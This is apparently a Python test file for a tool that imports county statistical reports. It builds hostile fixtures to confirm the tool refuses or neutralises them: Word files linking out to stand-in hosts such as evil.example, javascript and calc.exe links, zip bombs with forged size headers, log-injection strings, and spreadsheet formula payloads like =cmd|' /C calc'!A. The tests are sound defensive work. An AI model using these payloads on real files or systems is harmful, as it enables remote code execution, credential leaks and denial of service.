    """A full-width ９５, or the compatibility ideograph U+F90A for 金: the quote looks right but is not the source's."""
    with_source_lines(fixture_data.data, "金融类技术合同95项。")
    with_observations(fixture_data.data, f"2024,95,,,,,test-source,{quote},", header="period,value,flag,qualifier,as_of,breakdown,source,quote,note")
    found = [p for p in problems_of(fixture_data.data) if p.code in ("quote-unicode-form", "quote-not-in-source")]
    assert [p.code for p in found] == ["quote-unicode-form"] and "请从存档原文中直接复制" in found[0].zh


# 4. a .docx archive that fetches from outside when opened


def docx_linking(target: str, kind: str = "attachedTemplate", mode: str = ' TargetMode="External"') -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as docx:
        docx.writestr("[Content_Types].xml", "<Types/>")
        docx.writestr("word/document.xml", "<w:document/>")
        docx.writestr(
            "word/_rels/settings.xml.rels",
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
            f'Target="{target}"{mode}/></Relationships>',
        )
    return buffer.getvalue()


@pytest.mark.parametrize(
    ("target", "kind", "refuse"),
    [
        ("file:///\\\\evil.example\\share\\t.dotm", "attachedTemplate", True),
        ("\\\\evil.example\\share\\x.png", "image", True),
        ("javascript:alert(1)", "hyperlink", True),
        ("https://www.shanghe.gov.cn/", "hyperlink", False),
    ],
)
def test_an_archived_docx_that_links_outside_is_refused_at_validation(fixture_data, target: str, kind: str, refuse: bool) -> None:
    """Limit: an archived .docx has no external relationship but hyperlinks to http(s) or mailto."""
    import hashlib

    data = fixture_data.data
    archive = data / "sources" / "test-source.docx"
    archive.write_bytes(docx_linking(target, kind))
    source = data / "sources" / "test-source.yaml"
    text = re.sub(r"archive: .*", "archive: test-source.docx", source.read_text(encoding="utf-8"))
    source.write_text(re.sub(r"sha256: .*", f"sha256: {hashlib.sha256(archive.read_bytes()).hexdigest()}", text, count=1), encoding="utf-8")
    found = [p for p in problems_of(fixture_data.data) if p.code == "docx-external-link"] if refuse else []
    if refuse:
        assert found[0].path == "data/sources/test-source.yaml" and f"{kind} → {target}" in found[0].zh
    else:
        load_catalog(data, today=TODAY)


# 2, 4 and 5 for `make import`: a .docx that unpacks to gigabytes or lies about its sizes, a text of hundreds of
# thousands of characters with no full stop, a .docx that fetches from another machine, quotes a spreadsheet would run


MB = 1024 * 1024
REPORT_LINES = ("商河县科技局2025年工作总结（测试用虚构文本）", "2025年，全县新增高新技术企业12家。")
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELS = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'


def report_docx(path: Path, parts: dict[str, bytes] | None = None, zeros: tuple[str, int] | None = None) -> Path:
    """A small real report as a .docx (python-docx's own template), with ``parts`` added or replaced and
    ``zeros`` (a part's name, a size) a part of that many zero bytes, written a megabyte at a time."""
    import docx

    document = docx.Document()
    for line in REPORT_LINES:
        document.add_paragraph(line)
    buffer = io.BytesIO()
    document.save(buffer)
    parts = parts or {}
    with zipfile.ZipFile(buffer) as original, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for info in original.infolist():
            out.writestr(info.filename, parts.pop(info.filename, original.read(info)))
        for name, data in parts.items():
            out.writestr(name, data)
        if zeros:
            with out.open(zeros[0], "w") as part:
                for _ in range(zeros[1] // MB):
                    part.write(bytes(MB))
    return path


def refused(report: Path, data: Path, capsys: pytest.CaptureFixture[str]) -> str:
    """The message of an import that must fail and write nothing."""
    (data / "sources").mkdir(parents=True)
    assert import_source.run(report, "hostile", data) == 1
    err = capsys.readouterr().err
    assert "没有写入任何文件" in err and "Traceback" not in err
    assert [p.relative_to(data).as_posix() for p in data.rglob("*")] == ["sources"], "nothing written to data/"
    return err


# 1. a zip bomb in word/media/, and a part that lies about its size


def test_a_docx_with_a_huge_picture_is_refused_before_it_is_unpacked(tmp_path: Path, capsys) -> None:
    report = report_docx(tmp_path / "bomb.docx", zeros=("word/media/image1.png", 200 * MB))
    assert report.stat().st_size < 2 * MB
    err = refused(report, tmp_path / "data", capsys)
    assert "解压后共 200 MB，超过 20 MB 的上限" in err and "word/media/image1.png" in err, err
    assert "unpacks to more than 20 MB" in err


def test_parts_that_together_unpack_beyond_the_limit_are_refused(tmp_path: Path, capsys) -> None:
    report = report_docx(tmp_path / "many.docx", {f"word/media/image{n}.png": bytes(3 * MB) for n in range(8)})
    assert "超过 20 MB 的上限" in refused(report, tmp_path / "data", capsys)


def lying(path: Path, name: str, declared: int) -> None:
    """Make ``name`` in the zip at ``path`` declare ``declared`` bytes (with the CRC of its first ``declared``
    bytes, all zeros), in its local header and in the central directory: its stream still unpacks to all of it."""
    raw = bytearray(path.read_bytes())
    crc = zlib.crc32(bytes(declared))
    encoded = name.encode()
    for signature, crc_at, name_at in ((b"PK\x03\x04", 14, 30), (b"PK\x01\x02", 16, 46)):
        at = raw.find(signature)
        while raw[at + name_at : at + name_at + len(encoded)] != encoded:
            at = raw.find(signature, at + 1)
        struct.pack_into("<I", raw, at + crc_at, crc)
        struct.pack_into("<I", raw, at + crc_at + 8, declared)  # the uncompressed size follows CRC and compressed size
    path.write_bytes(bytes(raw))


def test_a_part_that_understates_its_size_is_read_only_as_far_as_it_says(tmp_path: Path) -> None:
    """A picture the document uses, declaring 1 KB but unpacking to 200 MB: it is read a megabyte at a
    time and never past what it declares, so the import holds a few megabytes, not 200."""
    picture = f'<Relationship Id="rIdBomb" Type="{REL}/image" Target="media/image1.png"/>'
    import docx

    buffer = io.BytesIO()
    docx.Document().save(buffer)
    with zipfile.ZipFile(buffer) as original:
        rels = original.read("word/_rels/document.xml.rels").decode().replace("</Relationships>", picture + "</Relationships>")
        types = original.read("[Content_Types].xml").decode().replace("</Types>", '<Default Extension="png" ContentType="image/png"/></Types>')
    parts = {"word/_rels/document.xml.rels": rels.encode(), "[Content_Types].xml": types.encode()}
    report = report_docx(tmp_path / "liar.docx", parts, zeros=("word/media/image1.png", 200 * MB))
    lying(report, "word/media/image1.png", 1024)
    with zipfile.ZipFile(report) as package:
        assert package.getinfo("word/media/image1.png").file_size == 1024
    tracemalloc.start()
    try:
        text = documents.read(report).text
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert "新增高新技术企业12家" in text
    assert peak < 50 * MB, f"{peak // MB} MB held"


def test_a_part_compressed_with_bzip2_is_refused(tmp_path: Path, capsys) -> None:
    report = tmp_path / "bzip2.docx"
    report_docx(tmp_path / "plain.docx")
    with zipfile.ZipFile(tmp_path / "plain.docx") as original, zipfile.ZipFile(report, "w") as out:
        for info in original.infolist():
            out.writestr(info.filename, original.read(info), zipfile.ZIP_BZIP2 if info.filename == "word/document.xml" else zipfile.ZIP_DEFLATED)
    assert "压缩方式" in refused(report, tmp_path / "data", capsys)


# 2. a text with no full stop: the context of a figure is bounded, so matching is linear


def no_full_stop(characters: int) -> str:
    text = "商河县科技局2024年工作总结\n" + "".join(f"新增{n % 997 + 1}家，" for n in range(characters // 6))
    return text[:characters]


def test_a_figure_in_a_sentence_that_never_ends_is_matched_on_the_text_around_it() -> None:
    text = no_full_stop(40_000)
    figures = find(text, 2024)
    assert len(figures) > 5000
    assert max(len(f.sentence) for f in figures) <= 2 * 200 + 20, "a sentence is cut at its clauses, not the whole text"
    assert all(f.sentence in text and f.clause in f.sentence and text[f.start : f.end] in f.clause for f in figures)


def test_a_text_with_no_punctuation_at_all_gets_quotes_of_bounded_length() -> None:
    text = "商河县科技局2024年工作总结\n" + "".join(f"新增企业{n % 997 + 1}家" for n in range(4000))
    figures = find(text, 2024)
    assert len(figures) == 4000
    assert max(len(f.clause) for f in figures) <= 2 * 200 + 20 and max(len(f.sentence) for f in figures) <= 2 * 200 + 20
    assert all(text[f.clause_at : f.clause_at + len(f.clause)] == f.clause and f.clause.find(text[f.start : f.end]) >= 0 for f in figures)


# 3. relationships that reach outside the file


SETTINGS_RELS = "word/_rels/settings.xml.rels"


def with_relationship(tmp_path: Path, rel_type: str, target: str, part: str = "word/_rels/document.xml.rels") -> Path:
    import docx

    buffer = io.BytesIO()
    docx.Document().save(buffer)
    relationship = f'<Relationship Id="rIdX" Type="{REL}/{rel_type}" Target="{target}" TargetMode="External"/>'
    with zipfile.ZipFile(buffer) as original:
        existing = original.read(part).decode() if part in original.namelist() else RELS.format("")
    return report_docx(tmp_path / "linked.docx", {part: existing.replace("</Relationships>", relationship + "</Relationships>").encode()})


@pytest.mark.parametrize(
    ("rel_type", "target", "part", "shown"),
    [
        ("attachedTemplate", r"\\evil\share\t.dotm", SETTINGS_RELS, r"\\evil\share\t.dotm"),
        ("attachedTemplate", "http://evil.example/t.dotm", SETTINGS_RELS, "http://evil.example/t.dotm"),
        ("attachedTemplate", "file:///C:/t.dotm", "word/_rels/settings.xml.RELS", "file:///C:/t.dotm"),  # names are read regardless of case
        ("image", r"\\evil\share\p.png", "word/_rels/document.xml.rels", r"\\evil\share\p.png"),
        ("hyperlink", "file:///C:/Windows/System32/calc.exe", "word/_rels/document.xml.rels", "file:///C:/Windows/System32/calc.exe"),
        ("hyperlink", "javascript:alert(1)", "word/_rels/document.xml.rels", "javascript:alert(1)"),
        ("hyperlink", r"\\evil\share\x", "word/_rels/document.xml.rels", r"\\evil\share\x"),
    ],
)
def test_a_docx_that_reaches_outside_is_refused(tmp_path: Path, capsys, rel_type: str, target: str, part: str, shown: str) -> None:
    err = refused(with_relationship(tmp_path, rel_type, target, part), tmp_path / "data", capsys)
    assert f"Word 文件含有指向外部的链接（{rel_type} → {shown}）" in err, err
    assert "links outside itself" in err


def test_a_refused_target_is_shown_escaped(tmp_path: Path, capsys) -> None:
    err = refused(
        with_relationship(tmp_path, "attachedTemplate", r"\\evil\share&#10;::error file=README.md::ok&#x202E;gpj.exe", SETTINGS_RELS), tmp_path / "data", capsys
    )
    assert r"\\evil\share\n::error file=README.md::ok\u202egpj.exe" in err
    assert "\n::error" not in err and "\u202e" not in err


@pytest.mark.parametrize("target", ["https://kjj.shanghe.gov.cn/", "http://example.com/a?b=1", "mailto:kjj@example.com"])
def test_a_web_or_mail_hyperlink_may_stay(tmp_path: Path, target: str) -> None:
    assert "新增高新技术企业12家" in documents.read(with_relationship(tmp_path, "hyperlink", target)).text


# 4. cells a spreadsheet would run


FORMULAS = (
    "商河县科技局2025年工作总结（测试用虚构文本）\n"
    "+cmd|' /C calc'!A新增高新技术企业12家。\n"
    "全年技术合同，=cmd|' /C calc'!A 登记技术合同14项。\n"
    "@cmd，-15家企业通过评价。\n"
    "\t-认定16家。\n"
)


def test_no_cell_of_the_review_table_starts_a_formula(fixture_data, tmp_path: Path) -> None:
    """A quote stays a verbatim slice holding its figure: it starts at the clause before, or else after
    the characters that would make a spreadsheet run it."""
    data = fixture_data.data
    report = tmp_path / "formulas.txt"
    report.write_text(FORMULAS, encoding="utf-8")
    assert import_source.run(report, "formulas", data) == 0
    rows = list(csv.DictReader(io.StringIO((data / "imports" / "formulas.csv").read_text(encoding="utf-8-sig"))))
    for row in rows:
        assert not [k for k, v in row.items() if RUNS_AS_FORMULA.match(v)], row
        assert row["quote"] in FORMULAS and any(Decimal(t) == Decimal(row["value"]) for t in re.findall(r"[0-9]+", row["quote"])), row
    assert {r["value"]: r["quote"] for r in rows} == {
        "12": "cmd|' /C calc'!A新增高新技术企业12家",
        "14": "全年技术合同，=cmd|' /C calc'!A 登记技术合同14项",
        "15": "cmd，-15家企业通过评价",
        "16": "认定16家",
    }


def test_a_title_that_starts_a_formula_is_left_to_staff(fixture_data, tmp_path: Path) -> None:
    report = tmp_path / "title.txt"
    report.write_text("=1+1商河县科技局2025年工作总结\n2025年，全县新增高新技术企业12家。\n", encoding="utf-8")
    assert documents.title_and_year(report.read_text(encoding="utf-8")) == ("", 2025)


def test_any_other_cell_that_would_start_a_formula_is_written_as_text() -> None:
    from macros.drafts.matching import Known, Proposal
    from macros.drafts.review import rows

    (figure,) = find("2025年，全县新增高新技术企业12家。", 2025)
    indicator = Known("high-tech", '=HYPERLINK("http://evil.example")', "家", "", "year", False)
    (row,) = rows([Proposal(figure, indicator, 0.9, note="@SUM(1)")], "formulas", "0" * 64)
    assert row["indicator_title"] == '\'=HYPERLINK("http://evil.example")' and row["note"] == "'@SUM(1)"
    assert not [k for k, v in row.items() if RUNS_AS_FORMULA.match(v)]
